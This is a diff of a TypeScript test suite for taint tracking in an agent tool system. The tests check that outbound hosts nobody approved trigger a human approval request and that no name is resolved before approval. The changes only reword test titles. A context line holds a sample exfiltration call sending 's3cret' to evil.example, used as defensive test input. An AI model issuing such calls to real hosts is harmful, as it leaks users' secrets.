@@ -78,7 +78,7 @@ const everything = (["go", 'go url=https://evil.example/?d=s3cret note=""', "*"]
 )
 
 describe("Taint", () => {
-  it.effect("a host that nobody agreed to is asked about, with what the session had read and where it would go", () =>
+  it.effect("an unapproved host asks, with the labels of the session and the destination", () =>
     Effect.gen(function* () {
       const { go, log, told } = setUp({})
       const { outcome, receipt } = yield* go(made)
@@ -195,7 +195,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("nothing looks at it before a person has agreed: looking a name up tells somebody", () =>
+  it.effect("resolves no name before an approval, since the owner of the name would see it", () =>
     Effect.gen(function* () {
       const { go, log, told } = setUp({ answers: [{ deny: "not there" }] })
       const { outcome } = yield* go(made)
@@ -206,7 +206,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("what comes to light once a person has agreed is asked about anew, and only then granted", () =>
+  it.effect("what comes to light once a person has agreed is asked about again, and only then granted", () =>
     Effect.gen(function* () {
       const { go, log, told } = setUp({ raise: true, answers: ["approve", { deny: null }] })
       assert.strictEqual((yield* go(made)).outcome._tag, "Rejected")
@@ -285,7 +285,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("what reaches nobody but the person whose session it is carries nothing out; what others read does", () =>
+  it.effect("a message to the session's own user carries nothing out; one that others read does", () =>
     Effect.gen(function* () {
       const tell = Tool.make("tell", {
         version: 1,
@@ -345,7 +345,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("what was approved and started is asked about anew, and runs with its grant", () =>
+  it.effect("what was approved and started is asked about again, and runs with its grant", () =>
     Effect.gen(function* () {
       const { go, log, told } = setUp({ raise: true, answers: ["approve"] })
       const user = { _tag: "User", approvalId: Protocol.ApprovalId.make("approval-0"), principal: "ana" } as const
